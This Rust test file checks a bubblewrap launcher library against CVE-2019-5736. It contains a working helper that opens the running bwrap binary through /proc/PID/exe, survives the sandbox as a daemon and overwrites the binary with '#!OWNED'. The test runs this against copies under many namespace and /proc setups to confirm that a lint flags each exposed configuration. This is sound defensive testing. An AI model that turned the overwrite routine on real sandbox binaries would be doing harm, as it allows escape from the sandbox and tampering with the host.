//! CVE-2019-5736 for bwrap: a command opens the bwrap that runs it through /proc/PID/exe, outlives it, and writes into the file.
//! For every shape of root, users and namespaces: where that can be done, the sandbox is linted.

use std::fs::{self, File, Permissions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use bwrap_launch::{Bwrap, Descriptor, Lint, Namespaces, Sandbox};

use crate::common::{Here, host, within};

/// How long the attacker goes on trying once the sandbox has ended, and what it leaves when it has given up.
const TRIES: u32 = 100;

/// For how long at most.
const PATIENCE: Duration = Duration::from_secs(20);

/// A helper: opens the executables of all processes that it sees and that are a bwrap, starts a daemon, and ends; the daemon
/// tries to open them for writing for a second.
pub(crate) fn overwrite(arguments: &[String]) {
    let [program, name, log, stage] = arguments else { panic!("PROGRAM NAME LOG STAGE") };
    if stage == "start" {
        // it goes on by itself
        #[allow(clippy::zombie_processes, reason = "its parent ends at once")]
        let child = std::process::Command::new("setsid")
            .arg(program)
            .args(["--helper", "overwrite", program, name, log, "daemon"])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn();
        drop(child.unwrap());
        // it has opened what it can before its parent ends
        assert!(within(Duration::from_secs(60), || Path::new(&format!("{log}.open")).exists()));
        return;
    }
    let processes = fs::read_dir("/proc").into_iter().flatten().flatten();
    let named =
        |path: &PathBuf| fs::read_link(path).is_ok_and(|exe| exe.to_string_lossy().contains(name.as_str()));
    let executables = processes.map(|entry| entry.path().join("exe")).filter(named);
    let open: Vec<File> = executables.filter_map(|path| File::open(path).ok()).collect();
    fs::write(format!("{log}.open"), open.len().to_string()).unwrap();
    let mut tries = if name.ends_with("hurry") { u32::MAX } else { TRIES };
    let patience = Instant::now() + PATIENCE;
    while tries > 0 && Instant::now() < patience {
        let mut runs = false;
        for file in &open {
            let again = format!("/proc/self/fd/{}", file.as_raw_fd());
            match File::options().write(true).open(again) {
                Ok(mut file) => {
                    let _ = file.write_all(b"#!OWNED\n");
                }
                Err(error) => runs |= error.kind() == std::io::ErrorKind::ExecutableFileBusy,
            }
        }
        // as long as somebody runs it, nobody can
        tries -= u32::from(!runs);
        // a PID namespace leaves no more than microseconds
        if !name.ends_with("hurry") {
            std::thread::sleep(Duration::from_millis(10));
        }
    }
    fs::write(format!("{log}.done"), "").unwrap();
}

/// A shape: its name and what it adds to a sandbox that shows the host's root, and a directory to write to.
type Shape = (String, Sandbox);

/// What a shape adds.
type Change = fn(Sandbox) -> Sandbox;

fn shapes(here: &Here) -> Vec<Shape> {
    let mut shapes = Vec::new();
    let proc: [(&str, Change); 3] = [
        ("the host's /proc", |sandbox| sandbox),
        ("a /proc", |sandbox| sandbox.proc("/proc")),
        ("no /proc", |sandbox| sandbox.tmpfs("/proc")),
    ];
    let stays: [(&str, Change); 3] = [
        ("", |sandbox| sandbox),
        (", sync_fd", |sandbox| sandbox.sync_fd(Descriptor::from(File::open("/dev/null").unwrap()))),
        (", lock_file", |sandbox| sandbox.lock_file("/etc/passwd")),
    ];
    let namespaces = [
        ("no namespaces", Namespaces::empty()),
        ("USER", Namespaces::USER),
        ("USER_TRY", Namespaces::USER_TRY),
        ("PID", Namespaces::PID),
        ("USER, PID", Namespaces::USER | Namespaces::PID),
    ];
    let drops: [(&str, Change); 2] = [("", |sandbox| sandbox), (", cap_drop_all", Sandbox::cap_drop_all)];
    for (namespace, unshare) in namespaces {
        for (shown, show) in proc {
            for (stay, keep) in stays {
                // bwrap takes locks in a process 1 only
                if stay.contains("lock") && !namespace.contains("PID") {
                    continue;
                }
                for (drop, capabilities) in drops {
                    let sandbox = show(host()).bind(&here.scratch, &here.scratch);
                    let sandbox = if unshare.is_empty() { sandbox } else { sandbox.unshare(unshare) };
                    let name = format!("{namespace}, {shown}{stay}{drop}");
                    shapes.push((name, capabilities(keep(sandbox))));
                }
            }
        }
    }
    // another user inside is the same outside
    shapes.push(("USER, uid 1000, sync_fd".into(), {
        let null = File::open("/dev/null").unwrap();
        host()
            .bind(&here.scratch, &here.scratch)
            .unshare(Namespaces::USER)
            .uid(1000)
            .sync_fd(Descriptor::from(null))
    }));
    shapes
}

/// How many attacks are under way at a time: each waits for a second, most of it asleep.
const AT_ONCE: usize = 16;

pub(crate) fn cve_2019_5736_the_hosts_bwrap_stays_as_it_is(here: &Here) {
    let all = shapes(here);
    // each with a bwrap of its own
    let directory = packed(here);
    // and a name that no other attacker looks for, who may see it, too
    let own = std::process::id();
    let copies: Vec<PathBuf> =
        (0..all.len()).map(|index| directory.join(format!("bwrap-{own}-{index}-copy"))).collect();
    for path in &copies {
        fs::copy(here.bwrap.path(), path).unwrap();
        fs::set_permissions(path, Permissions::from_mode(0o755)).unwrap();
    }
    let mut results: Vec<(String, bool, bool)> = Vec::new();
    let mut runs = all.into_iter().zip(&copies).peekable();
    while runs.peek().is_some() {
        results.extend(std::thread::scope(|scope| {
            let some = runs.by_ref().take(AT_ONCE);
            let some: Vec<_> =
                some.map(|(shape, copy)| scope.spawn(move || attack(here, copy, shape))).collect();
            some.into_iter().map(|run| run.join().unwrap()).collect::<Vec<_>>()
        }));
    }
    let written: Vec<&str> = results.iter().filter(|one| one.1).map(|one| one.0.as_str()).collect();
    println!("overwritten: {written:#?}");
    // it is said wherever it can be done, and nowhere else; with a PID namespace it takes luck, and a user namespace that is only
    // tried may be missing
    let lucky = |name: &str| name.contains("PID") || name.contains("USER_TRY");
    let wrong: Vec<String> = results
        .iter()
        .filter(|(name, overwritten, linted)| {
            *overwritten && !linted || *linted && !overwritten && !lucky(name)
        })
        .map(|(name, overwritten, linted)| format!("{name}: overwritten {overwritten}, linted {linted}"))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// The name, whether bwrap was overwritten, whether that was pointed out.
fn attack(here: &Here, path: &Path, (name, sandbox): Shape) -> (String, bool, bool) {
    let file = path.file_name().unwrap().to_str().unwrap();
    let before = fs::read(path).unwrap();
    let bwrap = Bwrap::at(path).unwrap();
    let log = here.scratch.join(format!("{file}.log"));
    let program = std::env::current_exe().unwrap();
    let mut command = sandbox.command(&program);
    command
        .args(["--helper", "overwrite", program.to_str().unwrap(), file, log.to_str().unwrap(), "start"])
        .bwrap(&bwrap);
    let linted = command.lint().iter().any(|advice| advice.lint == Lint::ExposesBwrap);
    let output = command.output().unwrap_or_else(|error| panic!("{name}: {error}"));
    assert!(output.status.success(), "{name}: {}", String::from_utf8_lossy(&output.stderr));
    // with a PID namespace the daemon has ended, too
    let done = PathBuf::from(format!("{}.done", log.display()));
    let patience = Duration::from_millis(if name.contains("PID") { 200 } else { 40_000 });
    crate::common::within(patience, || done.exists());
    (name, fs::read(path).unwrap() != before, linted)
}

/// A directory of the caller's own with a bwrap, and the libraries that it may be packed with where it expects them.
fn packed(here: &Here) -> PathBuf {
    let original = here.bwrap.path();
    if original.starts_with("/usr") {
        return here.scratch.clone();
    }
    let package = original.ancestors().nth(3).unwrap();
    let to = here.scratch.join("package");
    let status = std::process::Command::new("cp").arg("-r").arg(package).arg(&to).status().unwrap();
    assert!(status.success());
    to.join(original.parent().unwrap().strip_prefix(package).unwrap())
}
